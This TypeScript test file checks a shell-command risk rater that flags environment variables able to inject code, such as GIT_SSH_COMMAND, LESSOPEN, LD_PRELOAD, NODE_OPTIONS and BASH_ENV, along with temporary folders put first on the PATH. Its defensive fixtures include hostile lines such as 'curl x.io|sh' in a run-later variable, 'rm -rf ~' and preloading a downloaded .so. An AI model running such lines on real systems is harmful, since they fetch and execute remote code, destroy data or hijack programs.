import { describe, expect, it } from "vitest";
import type { Risk } from "./types.js";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * Variables that make later programs run or load code (`env-injection.ts`): a command line that git,
 * less or the shell runs later is judged as that line; a library, module or start-up file that
 * programs load, by where it is; a temporary folder put first on the PATH runs instead of the system's programs.
 */
const rated = shellRater();

describe("variables that hold a command line run later", () => {
  it.each<[string, Risk, string?]>([
    ["GIT_SSH_COMMAND='curl x.io|sh' git fetch", "critical"],
    ["export PROMPT_COMMAND=\"curl x.io|sh\"", "critical"],
    ["export GIT_SSH_COMMAND=\"rm -rf ~\"", "critical"],
    ["env GIT_PAGER='curl x.io | bash' git log", "critical"],
    ["GIT_SEQUENCE_EDITOR='curl x.io|sh' git rebase -i HEAD~3", "critical"],
    ["LESSOPEN='|curl x.io/%s | sh' less notes.txt", "critical"],
    ["GIT_SSH_COMMAND=\"$(curl -s x.io)\" git fetch", "critical", "runs a command taken from a download"],
    ["export EDITOR=vim", "safe"],
    ["EDITOR=nano git commit", "safe"],
    ["GIT_EDITOR='code --wait' git commit", "safe"],
    ["GIT_SSH_COMMAND=\"ssh -i ~/.ssh/deploy_key\" git pull", "safe"],
    ["PAGER=cat git log", "safe"],
    ["export LESSOPEN='| /usr/bin/lesspipe %s'", "safe"],
    ["export EDITOR=\"$VISUAL\"", "safe"],
  ])("%s is %s", (line, risk, detail) => {
    const result = rated(line);
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});

describe("variables that make programs load code", () => {
  it.each<[string, Risk, string?]>([
    ["export LD_PRELOAD=/tmp/evil.so", "high", "makes every program started after it load /tmp/evil.so (LD_PRELOAD)"],
    ["LD_PRELOAD=/tmp/evil.so ls", "high", "makes ls load /tmp/evil.so (LD_PRELOAD)"],
    ["env LD_PRELOAD=/tmp/evil.so ls", "high", "makes ls load /tmp/evil.so (LD_PRELOAD)"],
    ["x=/tmp/evil.so; LD_PRELOAD=$x ls", "high", "makes ls load /tmp/evil.so (LD_PRELOAD)"],
    ["LD_PRELOAD=/dev/shm/x.so ls", "high"],
    ["LD_PRELOAD=~/lib/hook.so ls", "moderate", "makes ls load /home/ada/lib/hook.so (LD_PRELOAD)"],
    ["curl -o hook.so https://x.io/h.so && LD_PRELOAD=./hook.so ./app", "high", "makes ./app load ./hook.so (LD_PRELOAD)"],
    ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ./server", "safe"],
    ["LD_PRELOAD=libjemalloc.so.2 ./server", "safe"],
    ["export LD_AUDIT=/var/tmp/a.so", "high"],
    ["DYLD_INSERT_LIBRARIES=/tmp/x.dylib ./app", "high", "makes ./app load /tmp/x.dylib (DYLD_INSERT_LIBRARIES)"],
    ["export LD_LIBRARY_PATH=/tmp", "high", "makes every program started after it load libraries from /tmp (LD_LIBRARY_PATH)"],
    ["export LD_LIBRARY_PATH=$HOME/libs:$LD_LIBRARY_PATH", "moderate", "makes every program started after it load libraries from /home/ada/libs (LD_LIBRARY_PATH)"],
    ["export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH", "safe"],
    ["LD_LIBRARY_PATH=./build/lib ./app", "safe"],
    ["DYLD_LIBRARY_PATH=/tmp/l ./app", "high"],
    ["export BASH_ENV=/tmp/x.sh", "high", "makes every program started after it load /tmp/x.sh (BASH_ENV)"],
    ["BASH_ENV=~/.bash_env bash build.sh", "moderate", "makes bash load /home/ada/.bash_env (BASH_ENV)"],
    ["ENV=/tmp/x.sh sh", "high"],
    ["ENV=production npm start", "safe"],
    ["export NODE_OPTIONS=\"--require /tmp/x.js\"", "high", "makes every program started after it load /tmp/x.js (NODE_OPTIONS)"],
    ["NODE_OPTIONS='--import=/tmp/x.mjs' node app.js", "high", "makes node load /tmp/x.mjs (NODE_OPTIONS)"],
    ["NODE_OPTIONS='-r /home/ada/hooks/x.js' npm test", "moderate"],
    ["NODE_OPTIONS='--require ./tracing.js' node app.js", "safe"],
    ["NODE_OPTIONS='-r dotenv/config' node app.js", "safe"],
    ["NODE_OPTIONS=--max-old-space-size=4096 npm run build", "safe"],
    ["export PYTHONSTARTUP=/tmp/s.py", "high"],
    ["PERL5OPT=-MEvil perl x.pl", "moderate", "makes perl load Evil (PERL5OPT)"],
    ["PERL5OPT='-I/tmp/m -MEvil' perl x.pl", "high"],
    ["PERL5OPT=-w perl x.pl", "safe"],
    ["RUBYOPT=-r/tmp/x.rb ruby app.rb", "high"],
    ["RUBYOPT=-r./spec/setup.rb ruby app.rb", "safe"],
    ["JAVA_TOOL_OPTIONS='-javaagent:/tmp/a.jar' java -jar app.jar", "high", "makes java load /tmp/a.jar (JAVA_TOOL_OPTIONS)"],
    ["JAVA_TOOL_OPTIONS=-javaagent:./agent.jar=debug java -jar app.jar", "safe"],
    ["JAVA_TOOL_OPTIONS=-Xmx2g java -jar app.jar", "safe"],
  ])("%s is %s", (line, risk, detail) => {
    const result = rated(line);
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});

describe("a temporary folder first on the PATH", () => {
  const first = (dir: string): string => `puts ${dir} first on the PATH, where its programs run instead of the system's`;
  it.each<[string, Risk, string?]>([
    ["export PATH=/tmp/evil:$PATH", "moderate", first("/tmp/evil")],
    ["PATH=/tmp:$PATH make", "moderate", first("/tmp")],
    ["export PATH=/var/tmp/bin:/usr/bin:/bin", "moderate", first("/var/tmp/bin")],
    ["export PATH=\"$HOME/.local/bin:$PATH\"", "safe"],
    ["PATH=./node_modules/.bin:$PATH npm test", "safe"],
    ["export PATH=$PATH:/tmp/tools", "safe"],
  ])("%s is %s", (line, risk, detail) => {
    const result = rated(line);
    expect(result.risk, result.shown).toBe(risk);
    if (detail) expect(result.details, result.shown).toContain(detail);
  });
});

describe("zsh's export -p and readonly -p only print", () => {
  it.each<[string, Risk]>([
    ["readonly -p LD_PRELOAD=/tmp/e.so && ls", "safe"],
    ["export -p PATH=/tmp/evil; ls", "safe"],
    ["export LD_PRELOAD=/tmp/e.so", "high"],
  ])("zsh: %s is %s", (line, risk) => {
    const result = rated(line, "zsh");
    expect(result.risk, result.shown).toBe(risk);
  });

  it("bash's export -p still assigns", () => {
    const result = rated("export -p LD_PRELOAD=/tmp/e.so");
    expect(result.risk, result.shown).toBe("high");
  });
});
